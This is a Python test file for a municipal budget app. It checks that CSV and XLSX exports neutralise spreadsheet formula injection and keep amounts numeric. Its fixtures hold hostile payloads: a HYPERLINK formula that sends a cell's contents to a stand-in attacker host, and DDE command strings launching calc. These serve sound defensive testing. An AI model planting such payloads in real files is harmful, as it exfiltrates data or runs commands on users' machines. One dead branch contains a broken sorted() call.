"""No export hands a citizen's spreadsheet a formula: text that would run (= + - @, a tab or a
carriage return first, also after spaces or quotes) gets a leading single quote, in the CSV
and the XLSX downloads, core and plugin alike; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from bridge.accounts import audit, create_token, create_user
from bridge.app import create_app
from bridge.config import Settings
from bridge.spreadsheet import cell, row
from bridge.timeutil import utcnow
from plugins.budget.models import Envelope, LedgerLine

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.mark.parametrize(
    "text",
    [
        LINK,
        "+33 1 23 45 67 89",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        '"=1+1',
        "' =1+1",
        "\u00a0@cmd",
        "＝1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Espaces verts", "-12,50", "-1250.00", "+5", "12", "", "Jean-Marc", None, -12.5, 7]
)
def test_plain_text_and_numbers_are_left_alone(value):
    assert cell(value) == value


def test_a_row_is_made_safe_cell_by_cell():
    assert row([LINK, -3, date(2026, 12, 1)]) == ["'" + LINK, -3, date(2026, 12, 1)]


@pytest.fixture
def client(database_url, sessions):
    with sessions() as session:
        now = utcnow()
        envelope = Envelope(name=LINK, amount_cents=100_000, created_at=now)
        session.add(envelope)
        session.flush()
        for kind, cents, supplier in [
            ("commitment", 150_000, "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("payment", -12_550, "-2+3+cmd|' /C calc'!A0"),  # a refund: a negative amount
        ]:
            session.add(
                LedgerLine(
                    envelope_id=envelope.id,
                    kind=kind,
                    day=date(2026, 11, 30),
                    amount_cents=cents,
                    reference=f"+{kind}",
                    supplier=supplier,
                    label="Plantations",
                    imported_at=now,
                )
            )
        admin, _ = create_user(session, "admin@ivry.example", "admin", "a long password 12")
        token = create_token(session, admin, "export")[1]
        audit(session, "-2+3+cmd|' /C calc'!A0", "budget.import", LINK)  # e.g. a file's name
        session.commit()
    app = create_app(Settings(database_url=database_url, plugins={"enabled": ["budget"]}))
    client = app.test_client()
    client.token = token
    return client


def test_the_budget_csv_neutralises_names_and_keeps_amounts_plain(client):
    text = client.get("/api/v1/exports/budget-envelopes").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][0] == "'" + LINK
    # amount 1 000,00, committed 1 500,00: 500,00 left to commit is negative, and a number
    assert rows[1][1] == "1000,00" and rows[1][-1] == "-500,00"


def test_the_xlsx_ledger_has_no_formula_and_numeric_amounts(client):
    book = load_workbook(io.BytesIO(client.get("/api/v1/exports/budget-ledger-xlsx").data))
    cells = [c for line in book.active.iter_rows(min_row=2) for c in line]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    by_column = {c.column_letter + str(c.row): c.value for c in cells}
    assert by_column["A2"] == "'" + LINK
    assert {by_column["E2"], by_column["E3"]} == {"'+commitment", "'+payment"}
    assert {by_column["F2"], by_column["F3"]} == {
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
    }
    amounts = (
        sorted(by_column["D2"], by_column["D3"])
        if False
        else sorted([by_column["D2"], by_column["D3"]])
    )
    assert amounts == [-125.5, 1500.0]  # numbers, the negative one too


def test_the_audit_csv_neutralises_what_people_typed(client):
    answer = client.get(
        "/api/v1/audit?format=csv", headers={"Authorization": f"Bearer {client.token}"}
    )
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True)), delimiter=";"))
    typed = next(r for r in rows if r[3] == "budget.import")
    assert typed[2] == "'-2+3+cmd|' /C calc'!A0" and typed[4] == "'" + LINK
    assert all(
        c[:1] == "'" or c.lstrip(" \"'")[:1] not in ("=", "+", "-", "@") for r in rows for c in r
    )
